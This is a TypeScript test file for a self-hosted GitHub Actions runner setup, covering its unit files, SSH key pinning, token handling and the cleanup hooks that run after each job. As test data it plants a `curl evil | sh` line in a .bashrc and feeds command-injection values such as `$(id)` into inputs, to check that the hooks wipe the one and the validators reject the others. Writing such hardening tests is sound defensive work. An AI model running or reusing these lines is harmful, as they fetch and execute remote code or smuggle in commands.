import { strict as assert } from "node:assert";
import { execFileSync, spawn, spawnSync } from "node:child_process";
import { createHash, randomBytes } from "node:crypto";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { RunnerIdentity, jobLabels, runnerIdentities, runnerLayout, runnerTarball } from "../../config/runnerNames";
import { RunnerConfig, runner } from "../../config/sections/runner";
import * as rc from "../../render/runnerCommands";
import { StandinRelease, StandinServer, buildStandinRelease, parseStandinCalls, readStandinRegistration, serveStandinReleases } from "../../rig/runnerStandin";
import { requireCondition, requireTool } from "../support/tools";

/*
 * The runner host's commands: the pure builders, the unit as systemd reads it, and the host
 * script run for real under bash, as root, against a temporary directory (accounts it makes
 * are real, with throwaway names, and removed again; no systemd: the script starts the
 * service the way the unit says, as it does on the rig's hosts).
 */

const TOKEN = "PLACEHOLDER-REGISTRATION-TOKEN-77aa";
const isRoot = process.getuid?.() === 0;

/** What bash makes of a command line: the words the program would receive. */
function wordsAfterBash(line: string): string[] {
  return execFileSync("bash", ["-c", `printf '%s\\0' ${line}`]).toString().split("\0").slice(0, -1);
}

/** A child process run without blocking this one (the stand-in release server lives here). */
function runAsync(cmd: string, args: string[], input: string, env: Record<string, string>): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(cmd, args, { env });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (d) => (stdout += d));
    child.stderr.on("data", (d) => (stderr += d));
    child.on("close", (status) => resolve({ status, stdout, stderr }));
    child.stdin.end(input);
  });
}

function configWith(over: Record<string, unknown> = {}): RunnerConfig {
  return runner.parse({ ci: { count: 1 }, ...over });
}

describe("runner host command builders", () => {
  const cfg = configWith();
  const layout = runnerLayout(cfg);
  const [ci, deploy] = runnerIdentities(cfg);

  it("derives names, accounts, labels and zones from one config section", () => {
    assert.deepEqual(
      runnerIdentities(runner.parse({ ci: { count: 2 } })).map((r) => [r.zone, r.name, r.user, r.customLabels.join(",")]),
      [
        ["ci", "forest-runner-1", "ghr-ci-1", "homelab,ghcr-builder"],
        ["ci", "forest-runner-2", "ghr-ci-2", "homelab,ghcr-builder"],
        ["deploy", "forest-deploy-1", "ghr-deploy", "homelab-deploy"],
      ],
    );
    assert.deepEqual(jobLabels(cfg), {
      ci: ["self-hosted", "Linux", "X64", "homelab"],
      builder: ["self-hosted", "Linux", "X64", "ghcr-builder"],
      deploy: ["self-hosted", "Linux", "X64", "homelab-deploy"],
    });
    assert.throws(() => runnerIdentities(runner.parse({ deploy: { label: "homelab" } })), /deploy.label: must differ/);
    assert.throws(() => runnerIdentities(runner.parse({ deploy: { user: "ghr-ci-1" } })), /collides/);
  });

  it("refuses a runner older than 2.327.0 (pulumi/actions v7 needs Node 24) and a checksum that is not sha256", () => {
    assert.equal(runner.safeParse({ version: "2.326.9" }).success, false);
    assert.equal(runner.safeParse({ version: "2.327.0" }).success, true);
    assert.equal(runner.safeParse({ sha256: "abc" }).success, false);
    assert.equal(runner.safeParse({ downloadBase: "https://x/$(id)" }).success, false);
    assert.equal(runnerTarball(cfg).url, "https://github.com/actions/runner/releases/download/v2.336.0/actions-runner-linux-x64-2.336.0.tar.gz");
  });

  it("builds the ensure command with every value quoted and no token: the token only ever goes to stdin", () => {
    const line = rc.ensureRunnerCommand(layout, {
      runner: ci,
      repoUrl: "https://github.com/rogerlew/wepppy",
      repository: "rogerlew/wepppy",
      branch: "master",
      version: cfg.version,
      sha256: cfg.sha256,
      tarballUrl: runnerTarball(cfg).url,
      docker: true,
      drainMinutes: 60,
      unitSha: "a".repeat(64),
      scriptSha: "b".repeat(64),
    });
    const words = wordsAfterBash(line);
    assert.deepEqual(words.slice(0, 5), ["sudo", "-n", "bash", layout.script, "ensure"]);
    assert.equal(words[words.indexOf("--labels") + 1], "homelab,ghcr-builder");
    assert.equal(words[words.indexOf("--docker") + 1], "yes");
    assert.ok(!words.some((w) => /token/i.test(w)));
    const deployLine = rc.ensureRunnerCommand(layout, { runner: deploy, repoUrl: "x", repository: "a/b", branch: "master", version: "1.2.3", sha256: "c", tarballUrl: "u", docker: false, drainMinutes: 1, unitSha: "d", scriptSha: "e" });
    assert.equal(wordsAfterBash(deployLine)[wordsAfterBash(deployLine).indexOf("--docker") + 1], "no");
  });

  it("writes a hardened unit per runner: its own user, restart on failure, no new privileges, hooks and zone set", () => {
    const unit = rc.renderRunnerUnit(ci, { layout, repository: "rogerlew/wepppy", branch: "master", noNewPrivileges: true });
    const lines = unit.split("\n");
    for (const want of [
      "User=ghr-ci-1",
      `ExecStart=${ci.dir}/run.sh`,
      "Restart=on-failure",
      "NoNewPrivileges=yes",
      "ProtectHome=yes",
      "PrivateTmp=yes",
      "ProtectSystem=full",
      "Environment=WEPPPY_RUNNER_ZONE=ci",
      `Environment=ACTIONS_RUNNER_HOOK_JOB_COMPLETED=${layout.root}/bin/job-completed.sh`,
      "WantedBy=multi-user.target",
    ]) {
      assert.ok(lines.includes(want), `no "${want}" in the unit`);
    }
    assert.ok(!rc.renderRunnerUnit(ci, { layout, repository: "r/r", branch: "master", noNewPrivileges: false }).includes("NoNewPrivileges"));
  });

  it("the units pass systemd-analyze verify as written", function () {
    requireTool(this, "systemd-analyze");
    const root = fs.mkdtempSync(path.join(os.tmpdir(), "unit-"));
    try {
      const c = configWith({ root });
      const l = runnerLayout(c);
      const units: Record<string, string> = {};
      for (const r of runnerIdentities(c)) {
        fs.mkdirSync(r.dir, { recursive: true });
        fs.writeFileSync(path.join(r.dir, "run.sh"), "#!/bin/bash\n", { mode: 0o755 });
        units[r.unit] = rc.renderRunnerUnit(r, { layout: l, repository: "rogerlew/wepppy", branch: "master", noNewPrivileges: true });
      }
      fs.mkdirSync(path.dirname(l.script), { recursive: true });
      fs.writeFileSync(l.script, "#!/bin/bash\n", { mode: 0o755 });
      const cleanup = rc.cleanupUnits(l, 7);
      units["wepppy-runner-cleanup.service"] = cleanup.service;
      units["wepppy-runner-cleanup.timer"] = cleanup.timer;
      const dir = path.join(root, "units");
      fs.mkdirSync(dir);
      for (const [name, text] of Object.entries(units)) fs.writeFileSync(path.join(dir, name), text);
      const run = spawnSync("systemd-analyze", ["verify", ...Object.keys(units).map((n) => path.join(dir, n))], { encoding: "utf8" });
      assert.equal(run.status, 0, run.stderr);
      assert.equal(run.stderr.trim(), "", "systemd-analyze has something to say");
      // And it does complain about a broken one (the check can fail).
      fs.writeFileSync(path.join(dir, "wepppy-runner-bad.service"), units[runnerIdentities(c)[0].unit].replace(/ExecStart=.*/, "ExecStart=/nonexistent/run.sh"));
      assert.notEqual(spawnSync("systemd-analyze", ["verify", path.join(dir, "wepppy-runner-bad.service")]).status, 0);
    } finally {
      fs.rmSync(root, { recursive: true, force: true });
    }
  });

  it("pins the deploy targets' host keys under their host name and address, with the port when it is not 22", () => {
    const text = rc.renderKnownHosts([
      { stack: "testprod", host: "forest1.bearhive.internal", address: "192.168.1.12", port: 22, hostKey: "ssh-ed25519 AAAA1" },
      { stack: "prod", host: "wepp1", port: 2222, hostKey: "ssh-ed25519 AAAA2" },
    ]);
    assert.deepEqual(text.trim().split("\n").slice(1), ["forest1.bearhive.internal,192.168.1.12 ssh-ed25519 AAAA1", "[wepp1]:2222 ssh-ed25519 AAAA2"]);
  });

  it("reads the public half of an OpenSSH private key as ssh-keygen does, and refuses what is not one", function () {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "key-"));
    try {
      execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-C", "", "-f", path.join(dir, "k")]);
      const privateKey = fs.readFileSync(path.join(dir, "k"), "utf8");
      const expected = execFileSync("ssh-keygen", ["-y", "-f", path.join(dir, "k")], { encoding: "utf8" }).trim();
      assert.equal(rc.publicKeyOf(privateKey), expected);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
    assert.throws(() => rc.publicKeyOf("-----BEGIN OPENSSH PRIVATE KEY-----\nPLACEHOLDER\n-----END OPENSSH PRIVATE KEY-----\n"), /deployKey: not an OpenSSH private key/);
  });

  describe("the deploy key's authorized_keys block, installed by its command under bash", () => {
    let home: string;
    beforeEach(() => {
      home = fs.mkdtempSync(path.join(os.tmpdir(), "home-"));
      fs.mkdirSync(path.join(home, ".ssh"));
    });
    afterEach(() => fs.rmSync(home, { recursive: true, force: true }));
    const run = (line: string, stdin = "") => spawnSync("bash", ["-c", line], { input: stdin, env: { PATH: process.env.PATH ?? "", HOME: home }, encoding: "utf8" });
    const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDeploykeyforunittestsonly0000000000000000";

    it("is from= the runner host and restrict, replaces an earlier block, keeps every other line, and can be removed", () => {
      const file = path.join(home, ".ssh", "authorized_keys");
      fs.writeFileSync(file, "ssh-ed25519 AAAAoperator roger@laptop\n");
      const block = rc.renderAuthorizedKeysBlock(key, ["10.213.0.11"]);
      assert.match(block, /^from="10\.213\.0\.11",restrict ssh-ed25519 /m);
      assert.equal(run(rc.installAuthorizedKeysCommand(), block).status, 0);
      assert.equal(run(rc.installAuthorizedKeysCommand(), rc.renderAuthorizedKeysBlock(key, ["10.213.0.11", "10.213.0.0/24"])).status, 0);
      const text = fs.readFileSync(file, "utf8");
      assert.equal(text.match(/wepppy-cicd deploy runner/g)?.length, 1, "one block, the latest");
      assert.match(text, /from="10\.213\.0\.11,10\.213\.0\.0\/24",restrict/);
      assert.match(text, /^ssh-ed25519 AAAAoperator roger@laptop$/m);
      assert.equal(fs.statSync(file).mode & 0o777, 0o600);
      const again = run(rc.installAuthorizedKeysCommand(), rc.renderAuthorizedKeysBlock(key, ["10.213.0.11", "10.213.0.0/24"]));
      assert.ok(!again.stdout.includes("written"), "an unchanged block is not rewritten");
      assert.equal(run(rc.removeAuthorizedKeysCommand()).status, 0);
      assert.equal(fs.readFileSync(file, "utf8"), "ssh-ed25519 AAAAoperator roger@laptop\n");
    });

    it("says so when the same key is also authorized without restrictions", () => {
      fs.writeFileSync(path.join(home, ".ssh", "authorized_keys"), `${key} unrestricted\n`);
      const r = run(rc.installAuthorizedKeysCommand(), rc.renderAuthorizedKeysBlock(key, ["10.0.0.1"]));
      assert.equal(r.status, 0);
      assert.match(r.stderr, /also authorizes this deploy key without the from= restriction/);
    });

    it("refuses a block without an address, or with something else than an address", () => {
      assert.throws(() => rc.renderAuthorizedKeysBlock(key, []), /at least one address/);
      assert.throws(() => rc.renderAuthorizedKeysBlock(key, ['1.2.3.4",command="id']), /not an address/);
      assert.throws(() => rc.renderAuthorizedKeysBlock("not a key", ["1.2.3.4"]), /not an OpenSSH public key/);
    });
  });
});

describe("the runner host script, under bash as root against a temporary directory", function () {
  this.timeout(60_000);
  let root = "";
  let sys = "";
  let v1: StandinRelease;
  let v2: StandinRelease;
  let server: StandinServer;
  const id = randomBytes(3).toString("hex");
  let cfg: RunnerConfig;
  let ci: RunnerIdentity;
  let dep: RunnerIdentity;
  const started: number[] = [];

  /**
   * The accounts, made here the way the script makes them (its marker comment, so that its
   * remove deletes them again), with a uid no account and no process on this machine has:
   * the hooks end every process of their account, and a recycled system uid could be a
   * container's.
   */
  function makeAccount(name: string): void {
    for (let uid = 61000 + Math.floor(Math.random() * 3000); ; uid++) {
      if (spawnSync("getent", ["passwd", String(uid)]).status === 0 || spawnSync("getent", ["group", String(uid)]).status === 0) continue;
      if (spawnSync("pgrep", ["-U", String(uid)]).status === 0) continue;
      execFileSync("groupadd", ["--gid", String(uid), name], { stdio: "pipe" });
      execFileSync("useradd", ["--uid", String(uid), "--gid", name, "--home-dir", path.join(cfg.root, "home", name), "--no-create-home", "--shell", "/usr/sbin/nologin", "--comment", "wepppy-cicd runner (test)", name], { stdio: "pipe" });
      return;
    }
  }

  before(async function () {
    requireCondition(this, isRoot, "these tests make accounts and run as them, which needs root", "run the tests as root (CI does)");
    requireTool(this, "runuser");
    requireTool(this, "useradd", ["useradd", "--help"]);
    root = fs.mkdtempSync(path.join(os.tmpdir(), "wepppy-runner-"));
    fs.chmodSync(root, 0o755);
    sys = path.join(root, "sys");
    for (const d of ["tmp", "var/tmp", "dev/shm"]) fs.mkdirSync(path.join(sys, d), { recursive: true, mode: 0o1777 });
    for (const d of ["tmp", "var/tmp", "dev/shm"]) fs.chmodSync(path.join(sys, d), 0o1777);
    v1 = buildStandinRelease("2.336.0");
    v2 = buildStandinRelease("2.337.0");
    server = await serveStandinReleases([v1, v2]);
    cfg = runner.parse({
      root: path.join(root, "opt"),
      downloadBase: server.base,
      sha256: v1.sha256,
      ci: { count: 1, userPrefix: `wrt${id}c`, docker: false },
      deploy: { user: `wrt${id}d` },
    });
    [ci, dep] = runnerIdentities(cfg);
    makeAccount(ci.user);
    makeAccount(dep.user);
    const layout = runnerLayout(cfg);
    fs.mkdirSync(path.dirname(layout.script), { recursive: true });
    fs.copyFileSync(rc.RUNNER_SCRIPT_PATH, layout.script);
    fs.chmodSync(layout.script, 0o755);
    for (const r of [ci, dep]) {
      const unit = rc.renderRunnerUnit(r, { layout, repository: "rogerlew/wepppy", branch: "master", noNewPrivileges: true });
      assert.equal(sh(["install-unit", r.unit], unit).status, 0);
    }
  });

  after(async () => {
    if (!root) return;
    for (const r of [ci, dep]) {
      if (!r) continue;
      // A job left running by a failed test would make the removal wait (and refuse).
      fs.rmSync(path.join(r.dir, ".standin", "job"), { force: true });
      sh(["remove", "--name", r.name, "--user", r.user, "--drain-minutes", "0"]);
    }
    for (const r of [ci, dep]) {
      if (r && spawnSync("id", ["-u", r.user]).status === 0) {
        // Only this test's throwaway accounts (their uid was free of processes when made).
        spawnSync("pkill", ["-KILL", "-u", r.user]);
        await new Promise((resolve) => setTimeout(resolve, 200));
        spawnSync("userdel", [r.user]);
        spawnSync("groupdel", [r.user]);
      }
    }
    for (const pid of started) spawnSync("kill", ["-KILL", String(pid)]);
    await server?.close();
    fs.rmSync(root, { recursive: true, force: true });
  });

  function sh(args: string[], stdin = "", env: Record<string, string> = {}) {
    const layout = runnerLayout(cfg);
    return spawnSync("bash", [layout.script, ...args], { input: stdin, env: { PATH: process.env.PATH ?? "", WR_PREFIX: sys, ...env }, encoding: "utf8" });
  }

  async function ensure(r: RunnerIdentity, over: Partial<RunnerConfig> = {}, stdin = "") {
    const c = { ...cfg, ...over };
    const layout = runnerLayout(c);
    const unit = rc.renderRunnerUnit(r, { layout, repository: "rogerlew/wepppy", branch: "master", noNewPrivileges: true });
    const line = rc.ensureRunnerCommand(layout, {
      runner: r,
      repoUrl: "https://github.com/rogerlew/wepppy",
      repository: "rogerlew/wepppy",
      branch: "master",
      version: c.version,
      sha256: c.sha256,
      tarballUrl: runnerTarball(c).url,
      docker: false,
      drainMinutes: 0,
      unitSha: rc.sha256(unit),
      scriptSha: rc.sha256(rc.runnerScript()),
    });
    // What the command would run over SSH, minus `sudo -n` (this test is root already).
    const words = wordsAfterBash(line).slice(2);
    const result = await runAsync(words[0], words.slice(1), stdin, { PATH: process.env.PATH ?? "", WR_PREFIX: sys });
    const pid = Number(fs.existsSync(pidfile(r)) ? fs.readFileSync(pidfile(r), "utf8") : 0);
    if (pid) started.push(pid);
    return result;
  }

  const pidfile = (r: RunnerIdentity) => path.join(cfg.root, "run", `${r.name}.pid`);
  const calls = (r: RunnerIdentity) => parseStandinCalls(fs.readFileSync(path.join(r.dir, ".standin", "calls.log"), "utf8"));
  const alive = (pid: number) => spawnSync("kill", ["-0", String(pid)]).status === 0;
  const pidOf = (r: RunnerIdentity) => Number(fs.readFileSync(pidfile(r), "utf8"));
  const asUser = (user: string, script: string, env: Record<string, string> = {}) =>
    spawnSync("runuser", ["-u", user, "--", "env", "-i", `PATH=${process.env.PATH}`, `WR_PREFIX=${sys}`, ...Object.entries(env).map(([k, v]) => `${k}=${v}`), "bash", "-c", script], {
      encoding: "utf8",
    });
  async function until(what: string, f: () => boolean, ms = 5000) {
    const end = Date.now() + ms;
    while (Date.now() < end) {
      if (f()) return;
      await new Promise((r) => setTimeout(r, 100));
    }
    assert.fail(`timed out waiting for ${what}`);
  }

  it("refuses a runner whose unit on the host is not the declared one, before making anything", async () => {
    const unitFile = path.join(sys, "etc/systemd/system", ci.unit);
    const text = fs.readFileSync(unitFile, "utf8");
    fs.writeFileSync(unitFile, text.replace("Restart=on-failure", "Restart=no"));
    const bad = await ensure(ci, {}, `${TOKEN}\n`);
    fs.writeFileSync(unitFile, text);
    assert.notEqual(bad.status, 0);
    assert.match(bad.stderr, /is not the declared unit/);
    assert.match(bad.stdout, /downloaded, sha256 verified, unpacked/, "the release is checked first");
    assert.ok(!fs.existsSync(ci.dir));
  });

  it("installs a CI runner: account, verified release, registration with the token from stdin (never argv), .env 0600, service started", async () => {
    const first = await ensure(ci, {}, `${TOKEN}\n`);
    assert.equal(first.status, 0, first.stderr);
    const runs = calls(ci);
    const config = runs.filter((c) => c.cmd === "config");
    assert.equal(config.length, 1);
    assert.deepEqual(config[0].args, [
      "--unattended", "--url", "https://github.com/rogerlew/wepppy", "--name", ci.name, "--labels", "homelab,ghcr-builder", "--work", "_work", "--disableupdate", "--replace",
    ]);
    assert.equal(config[0].tokenSha256, createHash("sha256").update(TOKEN).digest("hex"));
    assert.equal(config[0].user, ci.user);
    assert.ok(!fs.readFileSync(path.join(ci.dir, ".standin", "calls.log"), "utf8").includes(TOKEN));
    assert.equal(readStandinRegistration(ci.dir).agentName, ci.name);
    const env = fs.statSync(path.join(ci.dir, ".env"));
    assert.equal(env.mode & 0o777, 0o600);
    assert.equal(execFileSync("stat", ["-c", "%U", path.join(ci.dir, ".env")], { encoding: "utf8" }).trim(), ci.user);
    assert.match(fs.readFileSync(path.join(ci.dir, ".env"), "utf8"), /^WEPPPY_RUNNER_ZONE=ci$/m);
    // Code is root's; the account cannot change it.
    assert.equal(execFileSync("stat", ["-c", "%U %a", path.join(ci.dir, "run.sh")], { encoding: "utf8" }).trim(), "root 755");
    await until("the runner to run", () => calls(ci).some((c) => c.cmd === "run"));
    assert.ok(alive(pidOf(ci)));
    assert.equal(calls(ci).find((c) => c.cmd === "run")!.user, ci.user);
    const health = rc.parseRunnerHealth(sh(["health"]).stdout);
    assert.deepEqual(
      health.runners.map((r) => [r.name, r.zone, r.version, r.service, r.registered, r.busy]),
      [[ci.name, "ci", "2.336.0", "active", true, false]],
    );
    assert.ok(health.freeDiskBytes > 0);
  });

  it("applying again changes nothing: no registration, no restart, even with another token", async () => {
    const pid = pidOf(ci);
    const before = calls(ci).length;
    const r = await ensure(ci, {}, "PLACEHOLDER-ANOTHER-TOKEN\n");
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stdout, /unchanged/);
    assert.equal(pidOf(ci), pid);
    assert.ok(alive(pid));
    assert.equal(calls(ci).length, before);
  });

  it("a wrong checksum stops before anything is unpacked, with a clear error, and leaves the running runner untouched", async () => {
    const pid = pidOf(ci);
    const r = await ensure(ci, { version: "2.337.0", sha256: "0".repeat(64) });
    assert.notEqual(r.status, 0);
    assert.match(r.stderr, new RegExp(`sha256 of ${server.base}/v2.337.0/\\S+ is ${v2.sha256}, but runner.sha256 is 0{64}: not unpacked; the installed runners are untouched`));
    assert.equal(pidOf(ci), pid);
    assert.ok(alive(pid));
    assert.equal(fs.readFileSync(path.join(ci.dir, ".wepppy-version"), "utf8").trim(), "2.336.0");
    assert.ok(!fs.existsSync(path.join(cfg.root, "versions", "2.337.0")));
  });

  it("a .runner registered under another name, or not the runner's JSON, is refused by name; the runner keeps running", async () => {
    const file = path.join(ci.dir, ".runner");
    const registration = fs.readFileSync(file, "utf8");
    assert.ok(registration.startsWith("\uFEFF") && registration.includes("\n  "), "the stand-in writes .runner as the runner does: a byte-order mark, indented");
    const pid = pidOf(ci);
    try {
      fs.writeFileSync(file, "\uFEFF" + JSON.stringify({ agentId: 7, agentName: "someone-else", poolId: 1 }, null, 2));
      const other = await ensure(ci, {});
      assert.notEqual(other.status, 0);
      assert.match(other.stderr, new RegExp(`runner ${ci.name}: ${ci.dir}/\\.runner is registered as 'someone-else'`));
      fs.writeFileSync(file, '{"agentName": "half');
      const broken = await ensure(ci, {});
      assert.notEqual(broken.status, 0);
      assert.match(broken.stderr, /\.runner is not the runner's registration \(JSON with an agentName\)/);
      assert.equal(pidOf(ci), pid);
    } finally {
      // Put back; the version bump below runs ensure on it and checks it was not registered again.
      fs.writeFileSync(file, registration);
    }
  });

  it("a version bump waits for a running job (and gives up after drainMinutes, changing nothing)", async () => {
    fs.writeFileSync(path.join(ci.dir, ".standin", "job"), "");
    const worker = ["-u", ci.user, "-f", `^/bin/bash ${ci.dir}/bin/Runner\\.Worker$`];
    await until("a job to start", () => spawnSync("pgrep", worker).status === 0);
    const r = await ensure(ci, { version: "2.337.0", sha256: v2.sha256 });
    assert.notEqual(r.status, 0);
    assert.match(r.stderr, /still running a job after 0 minutes; nothing was changed/);
    assert.equal(fs.readFileSync(path.join(ci.dir, ".wepppy-version"), "utf8").trim(), "2.336.0");
    fs.rmSync(path.join(ci.dir, ".standin", "job"));
    await until("the job to end", () => spawnSync("pgrep", worker).status !== 0);
  });

  it("a version bump reconfigures in place: new release, same registration, name and labels, runner restarted", async () => {
    const pid = pidOf(ci);
    const registration = fs.readFileSync(path.join(ci.dir, ".runner"), "utf8");
    const r = await ensure(ci, { version: "2.337.0", sha256: v2.sha256 });
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stdout, /stopping for 2\.336\.0 -> 2\.337\.0[\s\S]*release 2\.337\.0 in place[\s\S]*started/);
    assert.equal(execFileSync(path.join(ci.dir, "bin", "Runner.Listener"), ["--version"], { encoding: "utf8" }).trim(), "2.337.0");
    assert.equal(fs.readFileSync(path.join(ci.dir, ".runner"), "utf8"), registration);
    assert.equal(calls(ci).filter((c) => c.cmd === "config").length, 1, "not registered again");
    await until("the old runner to stop", () => !alive(pid));
    await until("the runner to run again", () => fs.existsSync(pidfile(ci)) && alive(pidOf(ci)) && pidOf(ci) !== pid);
    assert.match(fs.readFileSync(path.join(ci.dir, ".wepppy-labels"), "utf8"), /^homelab,ghcr-builder$/m);
    cfg = { ...cfg, version: "2.337.0", sha256: v2.sha256 };
  });

  it("the CI hooks wipe what a job left (workspace, home, temporary files, stray processes) and keep the runner running", async () => {
    const home = path.join(cfg.root, "home", ci.user);
    const plant = [
      `mkdir -p ${ci.dir}/_work/wepppy/wepppy/.git/hooks && echo x > ${ci.dir}/_work/wepppy/wepppy/.git/hooks/post-checkout`,
      `mkdir -p ${ci.dir}/_work/_tool/node && echo x > ${ci.dir}/_work/_tool/node/poisoned`,
      `echo 'curl evil | sh' > ${home}/.bashrc`,
      `echo x > ${sys}/tmp/planted`,
      `(setsid sleep 300 </dev/null >/dev/null 2>&1 &)`,
    ].join(" && ");
    assert.equal(asUser(ci.user, plant).status, 0);
    await until("the planted process", () => spawnSync("pgrep", ["-u", ci.user, "-x", "sleep"]).status === 0 && spawnSync("pgrep", ["-u", ci.user, "-f", "^sleep 300"]).status === 0);
    const stray = Number(spawnSync("pgrep", ["-u", ci.user, "-f", "^sleep 300"], { encoding: "utf8" }).stdout.trim().split("\n")[0]);
    const runnerPid = pidOf(ci);
    const hook = asUser(ci.user, `bash ${cfg.root}/bin/job-completed.sh`, { WEPPPY_RUNNER_ZONE: "ci" });
    assert.equal(hook.status, 0, hook.stderr + hook.stdout);
    assert.deepEqual(fs.readdirSync(path.join(ci.dir, "_work")), []);
    assert.deepEqual(fs.readdirSync(home), []);
    assert.ok(!fs.existsSync(path.join(sys, "tmp", "planted")));
    await until("the stray process to be killed", () => !alive(stray));
    assert.ok(alive(runnerPid), "the runner itself keeps running");
  });

  it("a job's start keeps only this job's _actions and _temp, and the hook refuses a zone that is not the runner's", () => {
    assert.equal(asUser(ci.user, `mkdir -p ${ci.dir}/_work/_actions/a ${ci.dir}/_work/_temp ${ci.dir}/_work/old`).status, 0);
    assert.equal(asUser(ci.user, `bash ${cfg.root}/bin/job-started.sh`, { WEPPPY_RUNNER_ZONE: "ci" }).status, 0);
    assert.deepEqual(fs.readdirSync(path.join(ci.dir, "_work")).sort(), ["_actions", "_temp"]);
    const wrong = asUser(ci.user, `bash ${cfg.root}/bin/job-started.sh`, { WEPPPY_RUNNER_ZONE: "deploy" });
    assert.equal(wrong.status, 1);
    assert.match(wrong.stdout, /::error::WEPPPY_RUNNER_ZONE is not this runner's zone/);
  });

  describe("the deploy runner", () => {
    before(async () => {
      const r = await ensure(dep, {}, `${TOKEN}\n`);
      assert.equal(r.status, 0, r.stderr);
    });
    const gate = (env: Record<string, string>) =>
      asUser(dep.user, `bash ${cfg.root}/bin/job-started.sh`, {
        WEPPPY_RUNNER_ZONE: "deploy",
        WEPPPY_RUNNER_BRANCH: "master",
        WEPPPY_RUNNER_REPOSITORY: "rogerlew/wepppy",
        GITHUB_REPOSITORY: "rogerlew/wepppy",
        GITHUB_EVENT_NAME: "push",
        GITHUB_REF: "refs/heads/master",
        ...env,
      });

    it("has its own account (outside the docker group when runner.deploy.docker is off) and its own registration", () => {
      assert.notEqual(dep.user, ci.user);
      assert.ok(!execFileSync("id", ["-nG", dep.user], { encoding: "utf8" }).split(/\s+/).includes("docker"));
      assert.equal(readStandinRegistration(dep.dir).agentName, dep.name);
      assert.deepEqual(calls(dep).find((c) => c.cmd === "config")!.args.slice(5, 7), ["--labels", "homelab-deploy"]);
    });

    it("takes only jobs of the protected branch from a push, a dispatch or a schedule", () => {
      for (const event of ["push", "workflow_dispatch", "schedule"]) {
        const r = gate({ GITHUB_EVENT_NAME: event });
        assert.equal(r.status, 0, `${event}: ${r.stdout}${r.stderr}`);
      }
      for (const [env, why] of [
        [{ GITHUB_EVENT_NAME: "pull_request", GITHUB_REF: "refs/pull/7/merge" }, /event pull_request never runs here/],
        [{ GITHUB_EVENT_NAME: "pull_request_target" }, /event pull_request_target never runs here/],
        [{ GITHUB_REF: "refs/heads/feature" }, /ref refs\/heads\/feature is not refs\/heads\/master/],
        [{ GITHUB_REPOSITORY: "someone/wepppy" }, /repository someone\/wepppy is not rogerlew\/wepppy/],
      ] as const) {
        const r = gate(env as Record<string, string>);
        assert.equal(r.status, 1, JSON.stringify(env));
        assert.match(r.stdout, /::error::the deploy runner refuses this job: /);
        assert.match(r.stdout, why);
      }
    });

    it("keeps its Pulumi state across jobs and wipes the rest of its home", () => {
      const home = path.join(cfg.root, "home", dep.user);
      assert.equal(asUser(dep.user, `mkdir -p ${home}/.pulumi/stacks && echo s > ${home}/.pulumi/stacks/x && echo x > ${home}/.npmrc`).status, 0);
      assert.equal(asUser(dep.user, `bash ${cfg.root}/bin/job-completed.sh`, { WEPPPY_RUNNER_ZONE: "deploy" }).status, 0);
      assert.deepEqual(fs.readdirSync(home), [".pulumi"]);
    });

    it("gets the targets' keys pinned, root-owned, with a config that checks them strictly", () => {
      const known = rc.renderKnownHosts([{ stack: "testprod", host: "forest1", address: "10.213.0.12", port: 22, hostKey: "ssh-ed25519 AAAAtarget" }]);
      const r = sh(["deploy-ssh", "--user", dep.user], known);
      assert.equal(r.status, 0, r.stderr);
      const dir = path.join(cfg.root, "home", dep.user, ".ssh");
      assert.equal(fs.readFileSync(path.join(dir, "known_hosts"), "utf8"), known);
      assert.equal(execFileSync("stat", ["-c", "%U %a", path.join(dir, "known_hosts")], { encoding: "utf8" }).trim(), "root 640");
      const config = fs.readFileSync(path.join(dir, "config"), "utf8");
      assert.match(config, /StrictHostKeyChecking yes/);
      assert.match(config, /GlobalKnownHostsFile \/dev\/null/);
      assert.ok(!/accept-new|StrictHostKeyChecking no/.test(config));
      assert.notEqual(asUser(dep.user, `echo x >> ${dir}/known_hosts`).status, 0, "the deploy account cannot change its known_hosts");
    });

    it("with systemd, enables and starts the unit, and leaves a running one alone", async () => {
      const marker = path.join(sys, "run", "systemd", "system");
      const bin = path.join(root, "stub-bin");
      fs.mkdirSync(marker, { recursive: true });
      fs.mkdirSync(bin, { recursive: true });
      const log = path.join(root, "systemctl.log");
      const state = path.join(root, "systemctl.active");
      // A systemctl that records its calls and keeps which units are active.
      fs.writeFileSync(
        path.join(bin, "systemctl"),
        [
          "#!/bin/bash",
          `echo "$*" >> ${log}`,
          'args=(); for a in "$@"; do case "$a" in --*) ;; *) args+=("$a");; esac; done',
          `case "\${args[0]}" in start|restart) echo "\${args[1]}" >> ${state} ;; stop) sed -i "/^\${args[1]}$/d" ${state} 2>/dev/null ;; is-active) grep -qx "\${args[1]}" ${state} 2>/dev/null ;; show) echo 0 ;; esac`,
        ].join("\n") + "\n",
        { mode: 0o755 },
      );
      try {
        const env = { PATH: `${bin}:${process.env.PATH}`, WR_PREFIX: sys };
        const layout = runnerLayout(cfg);
        const unit = rc.renderRunnerUnit(dep, { layout, repository: "rogerlew/wepppy", branch: "master", noNewPrivileges: true });
        const words = wordsAfterBash(
          rc.ensureRunnerCommand(layout, {
            runner: dep, repoUrl: "https://github.com/rogerlew/wepppy", repository: "rogerlew/wepppy", branch: "master", version: cfg.version, sha256: cfg.sha256,
            tarballUrl: runnerTarball(cfg).url, docker: false, drainMinutes: 0, unitSha: rc.sha256(unit), scriptSha: rc.sha256(rc.runnerScript()),
          }),
        ).slice(2);
        const run = () => runAsync(words[0], words.slice(1), "", env);
        const first = await run();
        assert.equal(first.status, 0, first.stderr);
        const calls1 = fs.readFileSync(log, "utf8");
        assert.match(calls1, new RegExp(`^enable --quiet ${dep.unit}$`, "m"));
        assert.match(calls1, new RegExp(`^start ${dep.unit}$`, "m"));
        fs.writeFileSync(log, "");
        const second = await run();
        assert.equal(second.status, 0, second.stderr);
        assert.ok(!/^(start|restart|stop) /m.test(fs.readFileSync(log, "utf8")), "a running, unchanged runner is not restarted");
      } finally {
        fs.rmSync(marker, { recursive: true, force: true });
      }
    });
  });

